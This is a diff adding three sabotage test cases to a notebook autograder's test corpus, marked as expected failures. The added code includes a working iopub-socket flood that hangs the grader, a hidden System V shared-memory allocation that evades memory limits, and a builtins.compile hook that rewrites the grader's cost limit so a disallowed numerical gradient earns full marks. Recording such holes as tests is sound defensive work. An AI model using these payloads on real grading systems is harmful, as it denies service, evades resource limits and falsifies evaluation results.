@@ -1708,6 +1708,108 @@ ISOLATION_NOTES = {"iso_home_link_disk_limit": "MB of files", "iso_detached_memo
                    "iso_deleted_open_files": "MB of files"}
 CASES += ISOLATION_CASES
 
+# --------------------------------------------------------------------------- attack on integ2
+# Found by the saboteur helper on branch integ2 (4f21f44), grading --jobs 2 batches with
+# --isolation bwrap and --isolation uid. Each case states the grade a teacher would expect;
+# all three currently FAIL (xfail).
+IOPUB_FLOOD = """import threading, time
+# signed 'status' messages on the kernel's own iopub socket, from a thread, faster than the
+# grader reads them: status messages count as no output, and the grader's drain after a cell
+# reads until the queue is empty, with no limit (130 s here; without the limit: forever)
+ip = get_ipython()
+session, sock = ip.kernel.session, ip.kernel.iopub_thread.socket
+HEAD = (b'{"msg_type": "status", "username": "u", "session": "s", "version": "5.3", '
+        b'"date": "2020-01-01T00:00:00.000000Z", "msg_id": "')
+def _flood(stop):
+    n = 0
+    while time.monotonic() < stop:
+        n += 1
+        frames = [HEAD + str(n).encode() + b'"}', b"{}", b"{}", b'{"execution_state": "busy"}']
+        sock.send_multipart([b"status", b"<IDS|MSG>", session.sign(frames), *frames])
+threading.Thread(target=_flood, args=(time.monotonic() + 130,), daemon=True).start()"""
+SYSV_SHM = """import ctypes, time
+# 3 x 450 MB of System V shared memory, touched and detached: resident, but in no process's
+# RSS and in no folder, so neither --memory (1024 MB here) nor --disk sees it; as a separate
+# user (no IPC namespace) such segments outlive the grading run (removed here at the end, also when interrupted)
+libc = ctypes.CDLL(None, use_errno=True)
+libc.shmat.restype, libc.shmat.argtypes = ctypes.c_void_p, [ctypes.c_int, ctypes.c_void_p,
+                                                            ctypes.c_int]
+made = []
+try:
+    for _ in range(3):
+        size = 450 * 2**20
+        shmid = libc.shmget(0, ctypes.c_size_t(size), 0o1600)
+        assert shmid != -1, ctypes.get_errno()
+        made.append(shmid)
+        addr = libc.shmat(shmid, None, 0)
+        assert addr not in (None, 2**64 - 1), ctypes.get_errno()
+        ctypes.memset(addr, 1, size)
+        libc.shmdt(ctypes.c_void_p(addr))
+    time.sleep(2)  # the grader looks at the kernel's memory every 0.25 s
+finally:
+    for shmid in made:
+        libc.shmctl(shmid, 0, None)  # IPC_RMID"""
+COMPILE_HOOK = """import builtins
+# the grader's in-kernel code (helpers.checking.calling, sent as source) is compiled with this
+# kernel's builtins.compile: raise the backward pass's cost budget before it is compiled
+_real_compile = builtins.compile
+def _compile(source, *args, **kwargs):
+    if isinstance(source, str):
+        source = source.replace('MAX_FORWARDS = "__cost__", 200',
+                                'MAX_FORWARDS = "__cost__", 10**9')
+    return _real_compile(source, *args, **kwargs)
+builtins.compile = _compile"""
+COMPLEX_STEP_BACKWARD = """def layernorm_backward(dout, cache):
+    # no backward pass: complex-step differences of the forward pass, one feature column of
+    # every example at a time (D forward passes), exact to rounding
+    X, x_hat, mean, var, gamma, eps = cache
+    X = np.array(X, complex)
+    def losses(A):
+        m = A.mean(1, keepdims=True)
+        v = ((A - m) ** 2).mean(1, keepdims=True)
+        return (dout * gamma * (A - m) / np.sqrt(v + eps)).sum(1)
+    dX = np.zeros(X.shape)
+    for j in range(X.shape[1]):
+        A = X.copy()
+        A[:, j] += 1e-30j
+        dX[:, j] = losses(A).imag / 1e-30
+    return dX, (dout * x_hat).sum(axis=0), dout.sum(axis=0)"""
+CASES += [
+    # observed: bwrap and uid, the grader's thread never leaves _drain while the flood lasts
+    # (5 min and counting with --timeout 60; faulthandler: execution.py _drain); here 0/7
+    # after 130 s; expected: the flood is cut like any other flood and the notebook keeps its
+    # points within its time limit
+    CorpusCase("sab_iopub_status_flood", "the solution, plus a thread that floods the "
+               "kernel's iopub socket with signed status messages after its cell ended",
+               _sol(lambda nb: _insert_after(nb, "ex1_gradient_test", IOPUB_FLOOD)), MAX,
+               slow=True, sabotage=True,
+               xfail="Executing._drain reads iopub until it is empty, with no time or count "
+                     "limit, and status messages are not counted as output: the grader hangs "
+                     "(the batch never ends; memory, disk and time go unwatched meanwhile)"),
+    # observed: 7/7 and no note in bwrap and uid (--memory 500: 900 MB unseen; as uid 61000
+    # the segments were still there after the run, `ipcs -m`)
+    CorpusCase("sab_sysv_shared_memory", "the solution, plus a cell holding 1.35 GB of "
+               "System V shared memory, detached", _sol(
+                   lambda nb: _insert_after(nb, "ex1_gradient_test", SYSV_SHM)), MAX,
+               note="MB of memory", sabotage=True,
+               xfail="System V shared memory is in no RSS and no folder: --memory misses it; "
+                     "with --isolation uid (no IPC namespace) it outlives the run"),
+]
+L4_CASES += [
+    # observed: 12/12 (bwrap and uid); without the hook the same notebook scores 9/12 with
+    # "looks like a numerical gradient"
+    CorpusCase("l4_sab_compile_hook_numerical_backward", "lesson 4: layernorm_backward by "
+               "complex-step differences, plus builtins.compile patched to raise the grader's "
+               "MAX_FORWARDS before its in-kernel code is compiled", _l4(
+                   True, lambda nb: _answer(nb, "ex4_ln_backward", COMPLEX_STEP_BACKWARD),
+                   lambda nb: _insert_after(nb, "ex4_ln_backward", COMPILE_HOOK)),
+               L4_MAX - 3, statuses={"ex4_ln_backward": "failed"},
+               messages={"ex4_ln_backward": "looks like a numerical gradient"},
+               xfail="the backward cost limit is decided by grader code compiled inside the "
+                     "kernel with the kernel's (patchable) builtins.compile"),
+]
+
+
 if __name__ == "__main__":
     out = Path(sys.argv[1] if len(sys.argv) > 1 else "grading-corpus")
     write(out)
